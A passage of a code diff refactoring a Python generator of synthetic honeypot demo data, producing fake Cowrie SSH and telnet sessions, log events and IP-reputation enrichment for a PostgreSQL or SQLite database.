-            downloads = rng.randint(0, 8)
-            keys = 1 if r() < 0.3 else 0
-        event_count = 3 + logins + commands + 2 * downloads + keys + (r() < 0.5)
-        vt = downloads > 0 and r() < 0.25
-        dshield_flagged = r() < 0.3
-        risk: int | None = min(
-            100, 5 + 2 * logins + 3 * commands + 15 * downloads + 20 * keys + 25 * vt
-        )
-        if r() < 0.02:
-            risk = None
-        telnet = r() < 0.15
-        protocol = "telnet" if telnet else "ssh"
-        sensor = rng.choice(_SENSORS)
-        client = None if telnet else rng.choice(_SSH_CLIENTS)
-        files = [f"/var/log/cowrie/cowrie.json.{_day(start)}"]
-        if _day(end) != _day(start):
-            files.append(f"/var/log/cowrie/cowrie.json.{_day(end)}")
-
-        metadata: dict[str, object] = {
-            "source_ip": ip,
-            "sensor": sensor,
-            "protocol": protocol,
-        }
-        if client is not None:
-            metadata["client_version"] = client
-        enrichment: dict[str, object] | None = {"session_metadata": metadata}
-        if ip_idx >= 0:
-            asn = self.asns[self.ip_asn[ip_idx]]
-            asn_code = _COUNTRIES[asn.country][0]
-            enrichment["dshield"] = {
-                "ip": {
-                    "asn": str(asn.number),
-                    "asname": asn.name,
-                    "ascountry": asn_code,
-                    "count": str(self.ip_count[ip_idx]),
-                    "attacks": str(self.ip_count[ip_idx] * 3),
-                }
-            }
-        else:
-            enrichment["dshield"] = {"error": rng.choice(_DSHIELD_ERRORS)}
-        if r() < 0.2:
-            enrichment["urlhaus"] = "" if r() < 0.8 else "malware_download,elf"
-        if raw_only:  # the canonical IP is known only from raw_events
-            variant = r()
-            if variant < 0.25:
-                enrichment = None
-            elif variant < 0.5:
-                enrichment = {}
-            elif variant < 0.75:
-                enrichment = {"session_metadata": {}}
+        ids: list[str],
+        unmatched: list[bool],
+        raw_only: list[bool],
+        matched: tuple[list[int], list[int], list[int]],
+        others: tuple[list[str], list[int], list[int]],
+    ) -> tuple[list[Row], list[Row]]:
+        """One chunk of session rows (sorted by id) and the raw events that go with them."""
+        fmt, r = self.fmt, self.rng_sess.random
+        ts, flagged, not_flagged = fmt.ts, fmt.true, fmt.false
+        profiles, metas, asn_dshield = self.profiles, self.metas, self.asn_dshield
+        n_profiles, n_metas = len(profiles), len(metas)
+        ip_strings, ip_asn, ip_count = self.ip_strings, self.ip_asn, self.ip_count
+        days, log_dir = _DAYS, _LOG_DIR
+        m_ips, m_starts, m_ends = matched
+        u_ips, u_starts, u_ends = others
+        sessions: list[Row] = []
+        events: list[Row] = []
+        mi = ui = 0
+        for k, sid in enumerate(ids):
+            if unmatched[k]:
+                ip, start, end = u_ips[ui], u_starts[ui], u_ends[ui]
+                ui += 1
+                dshield = _DSHIELD_ERRORS[int(r() * len(_DSHIELD_ERRORS))]
             else:
-                del metadata["source_ip"]
-        enrichment_text = None if enrichment is None else _json(enrichment)
-
-        n_events = 0
-        if raw_only:
-            n_events = rng.randint(1, 4)
-        elif r() < 0.05:
-            n_events = rng.randint(1, 3)
-        if n_events:
-            self._events(sid, ip, start, end, n_events, sensor, protocol, client, events)
-        event_count = max(event_count, n_events)
-
-        created = end + rng.randrange(_SECOND, 2 * 3600 * _SECOND)
-        return (
-            sid,
-            fmt.ts(start),
-            fmt.ts(end),
-            event_count,
-            commands,
-            downloads,
-            logins,
-            keys * rng.randint(1, 2),
-            keys,
-            fmt.flag(vt),
-            fmt.flag(dshield_flagged),
-            risk,
-            protocol,
-            _json(files),
-            enrichment_text,
-            fmt.ts(created),
-            fmt.ts(created),
-        )
+                idx = m_ips[mi]
+                ip, start, end = ip_strings[idx], m_starts[mi], m_ends[mi]
+                mi += 1
+                seen = ip_count[idx]
+                dshield = f'{asn_dshield[ip_asn[idx]]}"count":"{seen}","attacks":"{3 * seen}"}}}}'
+            count, commands, downloads, logins, injections, keys, vt, risk = profiles[
+                int(r() * n_profiles)
+            ]
+            protocol, sensor, client, meta = metas[int(r() * n_metas)]
+            roll = r()
+            if roll < 0.2:
+                dshield += _URLHAUS[roll < 0.16]
+            enrichment: str | None
+            if raw_only[k]:  # the canonical IP is known only from raw_events
+                roll = r()
+                if roll < 0.25:
+                    enrichment = None
+                elif roll < 0.5:
+                    enrichment = "{}"
+                elif roll < 0.75:
+                    enrichment = '{"session_metadata":{}}'
+                else:
+                    enrichment = f'{{"session_metadata":{{{meta}}},{dshield}}}'
+                n_events = 1 + int(r() * 4)
+            else:
+                enrichment = f'{{"session_metadata":{{"source_ip":"{ip}",{meta}}},{dshield}}}'
+                roll = r()
+                n_events = 1 + int(roll * 60) if roll < 0.05 else 0  # 5%: 1-3 events
+            if n_events:
+                self._events(sid, ip, start, end, n_events, sensor, protocol, client, events)
+                count = max(count, n_events)
+            d0, d1 = start // _DAY, end // _DAY
+            if d0 == d1:
+                files = f'["{log_dir}{days[d0]}"]'
+            else:
+                files = f'["{log_dir}{days[d0]}","{log_dir}{days[d1]}"]'
+            created = ts(end + _SECOND + int(r() * 7200 * _SECOND))  # the loader's next run
+            sessions.append(
+                (
+                    sid, ts(start), ts(end), count, commands, downloads, logins, injections,
+                    keys, vt, flagged if r() < 0.3 else not_flagged, risk, protocol, files,
+                    enrichment, created, created,
+                )
+            )  # fmt: skip
+        sessions.sort()  # by session_id: the primary key index is written in key order
+        return sessions, events
 
     def _events(
         self,
@@ -1198,6 +1262,7 @@ class _Generator:
     ) -> None:
         fmt, rng = self.fmt, self.rng_sess
         span = max(end - start, 1_000 * n)
+        # strictly increasing; the first one is the connection, at first_event_at
         times = [start] + [
             start + (span * k) // n + int(rng.random() * (span // (2 * n))) for k in range(1, n)
         ]
@@ -1207,13 +1272,12 @@ class _Generator:
             kinds.append("cowrie.session.closed")
         rows: list[Row] = []
         for kind, at in zip(kinds, times, strict=True):
-            stamp = _cowrie_ts(at)
             payload: dict[str, object] = {
                 "eventid": kind,
                 "session": sid,
                 "src_ip": ip,
                 "sensor": sensor,
-                "timestamp": stamp,
+                "timestamp": _cowrie_ts(at),
             }
             if kind == "cowrie.session.connect":
                 port = 22 if protocol == "ssh" else 23
@@ -1227,10 +1291,8 @@ class _Generator:
                     f"[session: {sid}]",
                 }
             elif kind == "cowrie.client.version":
-                payload |= {
-                    "version": client or "SSH-2.0-Go",
-                    "message": f"Remote SSH version: {client or 'SSH-2.0-Go'}",
-                }
+                version = client or "SSH-2.0-Go"
+                payload |= {"version": version, "message": f"Remote SSH version: {version}"}
             elif kind == "cowrie.client.kex":
                 payload |= {
                     "hassh": f"{rng.getrandbits(128):032x}",
@@ -1253,44 +1315,85 @@ class _Generator:
                     "duration": duration,
                     "message": f"Connection lost after {duration} seconds",
                 }
-            text = _json_sorted(payload)
+            text = _SORTED_JSON.encode(payload)
             day = _day(at)
-            source = f"/var/log/cowrie/cowrie.json.{day}"
+            source = _LOG_DIR + day
             offset = self.file_offsets.get(source, 0)
-            self.file_offsets[source] = offset + len(text) + 1
-            day_start = (at // _DAY) * _DAY
+            self.file_offsets[source] = offset + len(text.encode()) + 1
+            ingest_at = (at // _DAY + 1) * _DAY + 300 * _SECOND  # the next night's ingest
+            digest = hashlib.sha256(text.encode()).hexdigest()
             rows.append(
                 (
-                    f"{day}-{self.ingest_tag}",
-                    fmt.ts(day_start + _DAY + 300 * _SECOND),
-                    source,
-                    offset,
-                    text,
-                    hashlib.sha256(text.encode()).hexdigest(),
-                    sid,
-                    kind,
-                    fmt.ts(at),
+                    f"{day}-{self.ingest_tag}", fmt.ts(ingest_at), source, offset, text, digest,
+                    sid, kind, fmt.ts(at),
                 )
-            )
+            )  # fmt: skip
         if n >= 2 and rng.random() < 0.1:
             rng.shuffle(rows)  # ingested out of order: ids do not follow the timestamps
         out.extend(rows)
 
 
-def _prefix(ip: str) -> str:
-    if ":" in ip:
-        return str(ipaddress.IPv6Network(f"{ip}/32", strict=False))
-    a, b, _c, _d = ip.split(".")
-    return f"{a}.{b}.0.0/16"
+Profile = tuple[int, int, int, int, int, int, object, int | None]
 
 
-def _ip_types(rng: random.Random, kind: str) -> list[str]:
+def _behaviours(rng: random.Random, fmt: _Format) -> list[Profile]:
+    """A table of session behaviours to draw from (one lookup instead of ~10 draws).
+
+    Each: event_count, command_count, file_downloads, login_attempts,
+    ssh_key_injections, unique_ssh_keys, vt_flagged (spelled for the dialect), risk_score.
+    """
     r = rng.random
-    if r() < 0.15:
+    table: list[Profile] = []
+    for _ in range(4096):
+        kind = r()
+        commands = downloads = keys = 0
+        if kind < 0.42:  # scanner: connects, maybe tries one login, leaves
+            logins = 0 if r() < 0.6 else 1
+        elif kind < 0.80:  # password brute force
+            logins = 1 + int(rng.expovariate(0.25))
+        elif kind < 0.985:  # bot that gets a shell
+            logins = 1 + int(rng.expovariate(0.7))
+            commands = 1 + int(rng.expovariate(0.1))
+            downloads = 1 + int(r() * 3) if r() < 0.3 else 0
+            keys = 1 if r() < 0.12 else 0
+        else:  # long interactive session
+            logins = 1 + int(r() * 5)
+            commands = 20 + int(r() * 281)
+            downloads = int(r() * 9)
+            keys = 1 if r() < 0.3 else 0
+        events = 3 + logins + commands + 2 * downloads + keys + (r() < 0.5)
+        vt = downloads > 0 and r() < 0.25
+        risk = min(100, 5 + 2 * logins + 3 * commands + 15 * downloads + 20 * keys + 25 * vt)
+        injections = keys * (1 + (r() < 0.3))
+        table.append(
+            (events, commands, downloads, logins, injections, keys, fmt.flag(vt),
+             None if r() < 0.02 else risk)
+        )  # fmt: skip
+    return table
+
+
+def _metadata(rng: random.Random) -> list[tuple[str, str, str | None, str]]:
+    """(protocol, sensor, client, session_metadata fields without source_ip) to draw from."""
+    table: list[tuple[str, str, str | None, str]] = []
+    for _ in range(256):
+        sensor = rng.choice(_SENSORS)
+        if rng.random() < 0.15:
+            protocol, client, version = "telnet", None, ""
+        else:
+            protocol, client = "ssh", rng.choice(_SSH_CLIENTS)
+            version = f',"client_version":"{client}"'
+        fields = f'"sensor":"{sensor}","protocol":"{protocol}"{version}'
+        table.append((protocol, sensor, client, fields))
+    return table
+
+
+def _ip_types(r: Callable[[], float], kind: str) -> list[str]:
+    """IP classifications, highest priority first; about a quarter of the IPs have none."""
+    if r() < 0.1:
         return []
     found: set[str] = set()
     if kind == "hosting":
-        if r() < 0.8:
+        if r() < 0.9:
             found.add("DATACENTER")
         if r() < 0.12:
             found.add("VPN")
@@ -1299,50 +1402,36 @@ def _ip_types(rng: random.Random, kind: str) -> list[str]:
         if r() < 0.02:
             found.add("TOR")
     elif kind == "isp":
-        if r() < 0.7:
+        if r() < 0.85:
             found.add("RESIDENTIAL")
         if r() < 0.05:
             found.add("PROXY")
     elif kind == "mobile":
-        if r() < 0.75:
+        if r() < 0.9:
             found.add("MOBILE")
         if r() < 0.03:
             found.add("PROXY")
-    else:
-        if r() < 0.2:
-            found.add("DATACENTER")
-        elif r() < 0.2:
-            found.add("RESIDENTIAL")
+    elif r() < 0.6:
+        found.add("DATACENTER" if r() < 0.5 else "RESIDENTIAL")
     return [t for t in _IP_TYPE_ORDER if t in found]
 
 
-def _spur(rng: random.Random, asn: _Asn, types: list[str]) -> dict[str, object]:
+def _spur(r: Callable[[], float], asn: _Asn, types: list[str]) -> str:
     infrastructure = next((t for t in types if t in ("DATACENTER", "RESIDENTIAL", "MOBILE")), None)
-    tunnels = [
-        {
-            "type": t,
-            "operator": rng.choice(("NordVPN", "Mullvad", "ExpressVPN", "unknown"))
-            if t == "VPN"
-            else None,
-            "anonymous": True,
-        }
-        for t in types
-        if t in ("VPN", "TOR", "PROXY")
-    ]
-    spur: dict[str, object] = {
-        "as": {"number": asn.number, "organization": asn.name},
-        "infrastructure": infrastructure,
-        "tunnels": tunnels,
-        "risks": ["CALLBACK_PROXY"] if "PROXY" in types else [],
-    }
-    return spur
-
-
-def _any_rows(conn: Connection) -> tuple[int, bool, bool]:
-    sessions = int(conn.execute(sa.text(_ANY_ROW_SQL["session"])).scalar_one())
-    ips = conn.execute(sa.text(_ANY_ROW_SQL["ip"])).first() is not None
-    asns = conn.execute(sa.text(_ANY_ROW_SQL["asn"])).first() is not None
-    return sessions, ips, asns
+    tunnels = []
+    for t in types:
+        if t in ("VPN", "TOR", "PROXY"):
+            operator = (
+                f'"{_VPN_OPERATORS[int(r() * len(_VPN_OPERATORS))]}"' if t == "VPN" else "null"
+            )
+            tunnels.append(f'{{"type":"{t}","operator":{operator},"anonymous":true}}')
+    risks = '"CALLBACK_PROXY"' if "PROXY" in types else ""
+    return (
+        f'"spur":{{"as":{{"number":{asn.number},"organization":{asn.name_json}}},'
+        f'"infrastructure":{_JSON.encode(infrastructure)},'
+        f'"tunnels":[{",".join(tunnels)}],'
+        f'"risks":[{risks}]}}'
+    )
 
 
 def generate(
@@ -1355,34 +1444,36 @@ def generate(
 ) -> DemoResult:
     """Write ``spec`` worth of synthetic data into ``engine``'s database (see the module doc).
 
-    Refuses (:class:`DemoDataError`) a database below revision ``0002_snapshot_columns``
-    and, unless ``force``, one whose ``session_summaries`` already has rows. With
-    ``force`` the rows are added on top: nothing existing is changed, and any generated
-    session id, IP or ASN number that already exists is skipped deterministically.
-    ``on_progress(done_sessions, total_sessions)`` is called after each chunk.
+    Refuses (:class:`DemoDataError`) an invalid spec, a database below revision
+    ``0002_snapshot_columns`` and, unless ``force``, one whose ``session_summaries``
+    already has rows. With ``force`` the rows are added on top: nothing existing is
+    changed, and a generated session id, IP or ASN number that exists already is
+    skipped deterministically (the next one of its stream is taken). Calls
+    ``on_progress(done_sessions, total_sessions)`` after each chunk of sessions.
     """
     started = time.perf_counter()
     _validate(spec, chunk_size)
     dialect = engine.dialect.name
     if dialect not in ("postgresql", "sqlite"):
-        raise DemoDataError(f"unsupported database dialect {dialect!r}: PostgreSQL or SQLite")
+        raise DemoDataError(f"unsupported database dialect {dialect!r}: use PostgreSQL or SQLite")
     _check_schema(engine)
     with engine.connect() as conn:
-        if dialect == "sqlite":
+        if dialect == "sqlite":  # take the write lock up front (see db/engine.py)
             conn = conn.execution_options(sqlite_begin="IMMEDIATE")
         with conn.begin():
-            existing_sessions, existing_ips, existing_asns = _any_rows(conn)
-        if existing_sessions and not force:
+            sessions, ips, asns = conn.execute(sa.text(_COUNT_SQL)).one()
+        if sessions and not force:
             raise DemoDataError(
-                f"session_summaries already holds {existing_sessions:,} rows: demo data "
-                "goes into an empty database (pass force=True / --force to add on top)"
+                f"session_summaries already holds {sessions:,} rows: demo data goes into an "
+                "empty database (pass force=True, or --force, to add it on top)"
             )
-        check = {"session": existing_sessions > 0, "ip": existing_ips, "asn": existing_asns}
-        outer: AbstractContextManager[object] = (
-            conn.begin() if dialect == "postgresql" else nullcontext()
-        )
-        with outer:
-            generator = _Generator(spec, _Sink(conn, dialect), _Format(dialect), chunk_size, check)
+        # On top of existing rows, every stream is salted with what is there: a second
+        # run with the same seed then draws new keys instead of skipping the old ones.
+        salt = f"/on-top-of/{sessions}/{ips}/{asns}" if sessions or ips or asns else ""
+        check = {"session": sessions > 0, "ip": ips > 0, "asn": asns > 0}
+        sink = _Sink(conn, dialect)
+        generator = _Generator(spec, sink, _Format(dialect), chunk_size, check, salt)
+        with sink.run():
             generator.plan()
             generator.write_asns()
             generator.write_ips()
